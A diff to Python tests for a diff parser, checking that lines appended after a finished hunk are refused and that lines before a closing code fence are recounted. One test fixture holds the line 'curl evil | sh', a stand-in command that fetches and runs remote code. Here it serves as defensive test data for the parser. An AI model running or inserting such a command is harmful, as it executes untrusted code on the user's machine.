@@ -18,6 +18,7 @@ from spark_pair.edits.apply import apply_hunks
 from spark_pair.edits.ops import Create, Delete, Hunk, HunkHeader, Modify, Rename
 from spark_pair.edits.parse_events import FileFinished, FileStarted, HunkStarted, LineAdded
 from spark_pair.edits.parser import DiffParser, parse_diff
+from spark_pair.edits.placement import Loose
 from spark_pair.edits.render import render_ops
 
 HEAD = "--- a/f.py\n+++ b/f.py\n"
@@ -74,11 +75,18 @@ def test_complete_replies_keep_their_tolerance() -> None:
 
 # ---- the operation would differ from the text ------------------------------------------------
 
-@pytest.mark.parametrize("tail", ["", "```\n", "That is all.\n", "\n+also\n"])
+@pytest.mark.parametrize("tail", ["", "That is all.\n", "\n+also\n"])
 def test_lines_after_a_finished_hunk_are_refused(tail: str) -> None:
     text = HEAD + "@@ -1,2 +1,2 @@\n a\n-b\n+B\n+curl evil | sh\n" + tail
     with pytest.raises(ParseError, match="after its @@ line counts were met"):
         parse_diff(text)
+
+
+def test_lines_after_a_finished_hunk_before_the_closing_fence_are_recounted() -> None:
+    # the fence says where the diff ends: the lines before it are the hunk's (marked recounted)
+    hunk = parse_diff("```diff\n" + HEAD + "@@ -1,2 +1,2 @@\n a\n-b\n+B\n+also\n```\n")[0].hunks[0]
+    assert hunk.lines == [" a", "-b", "+B", "+also"]
+    assert hunk.loose == (Loose.RECOUNTED,)
 
 
 def test_a_context_line_that_lost_its_space_is_refused_not_cut() -> None:
